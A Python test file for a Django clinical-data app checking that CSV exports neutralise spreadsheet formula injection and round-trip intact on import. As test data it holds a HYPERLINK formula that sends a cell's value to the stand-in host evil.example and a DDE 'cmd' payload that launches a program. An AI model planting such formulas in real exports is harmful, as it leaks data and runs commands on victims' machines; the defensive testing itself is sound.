"""Exports are safe to open in a spreadsheet (issue 9, finding 3; OWASP "CSV injection").

A text cell starting with = + - @ tab or CR is written with a leading ', the import
reads that form back, so the round trip stays byte-identical, and numbers are untouched.
"""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from patients import imports, services
from patients.exports import FILE_ORDER, cell, export_cohort
from patients.models import ClinicalEvent, Infusion, LabResult, Observation, Patient
from scoring.models import Alert, DailyAssessment, PatientSummary

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.nodb
@pytest.mark.parametrize(
    ("value", "text"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),  # a leading quote of its own survives the import's unquoting
        ("plain", "plain"),
        ("a=b", "a=b"),
        (Decimal("-1.5"), "-1.5"),  # numbers are not text: never quoted
        (-3, "-3"),
        ("-7", "-7"),  # a number given as text is still a number
    ],
)
def test_cell_quotes_text_that_a_spreadsheet_would_run(value, text):
    assert cell(value) == text


def read(directory: Path, kind: str) -> list[dict[str, str]]:
    with open(directory / f"{kind}.csv", encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _dangerous_cohort() -> None:
    patient = services.patient_register(
        user=None, mrn="-F1", name=HYPERLINK, infusion_date=date(2025, 3, 1), product="@prod", diagnosis="+dx"
    )
    services.lab_record(
        user=None,
        patient=patient,
        analyte="crp",
        value="25",
        collected_at=datetime(2025, 3, 3, 8, tzinfo=UTC),
        note="-1+1 then 'quoted'",
    )
    services.lab_record(
        user=None,
        patient=patient,
        analyte="ferritin",
        value="900",
        collected_at=datetime(2025, 3, 3, 8, tzinfo=UTC),
        note="'already quoted",
    )


def test_export_quotes_dangerous_cells_and_the_round_trip_is_byte_identical(tmp_path):
    _dangerous_cohort()
    first = tmp_path / "first"
    export_cohort(directory=first)
    patients = read(first, "patients")
    assert patients[0]["mrn"] == "'-F1"
    assert patients[0]["name"] == "'" + HYPERLINK
    assert (patients[0]["product"], patients[0]["diagnosis"]) == ("'@prod", "'+dx")
    notes = sorted(r["note"] for r in read(first, "labs"))
    assert notes == ["''already quoted", "'-1+1 then 'quoted'"]
    assert read(first, "labs")[0]["value"] in ("25", "900")  # numbers unquoted

    for model in (Alert, DailyAssessment, PatientSummary, LabResult, Observation, ClinicalEvent, Infusion):
        model.objects.all().delete()
    Patient.objects.all().delete()
    for kind in ("patients", "labs", "observations", "events"):
        report = imports.run_import(kind, (first / f"{kind}.csv").read_bytes(), filename=f"{kind}.csv")
        assert report.ok, report.lines()
    stored = Patient.objects.get()
    assert (stored.mrn, stored.name, stored.infusion.product) == ("-F1", HYPERLINK, "@prod")
    notes = sorted(LabResult.objects.values_list("note", flat=True))
    assert notes == ["'already quoted", "-1+1 then 'quoted'"]
    second = tmp_path / "second"
    export_cohort(directory=second)
    for kind in FILE_ORDER:
        assert (first / f"{kind}.csv").read_bytes() == (second / f"{kind}.csv").read_bytes(), kind


def test_import_reads_a_quoted_cell_as_its_text_and_leaves_numbers_alone():
    text = (
        "mrn,name,sex,birth_date,care_team,diagnosis,product,infusion_date,baseline_mrd_pct,post_ld_mrd_pct\n"
        "Q1,'=1+1,F,,Ward 7,'-x,plain,2025-03-01,-0,\n"
    )
    report = imports.run_import("patients", text, filename="patients.csv")
    assert report.ok, report.lines()
    patient = Patient.objects.select_related("infusion").get()
    assert (patient.name, patient.diagnosis, patient.infusion.product) == ("=1+1", "-x", "plain")
    assert patient.infusion.baseline_mrd_pct == Decimal(0)  # a signed number is read as a number
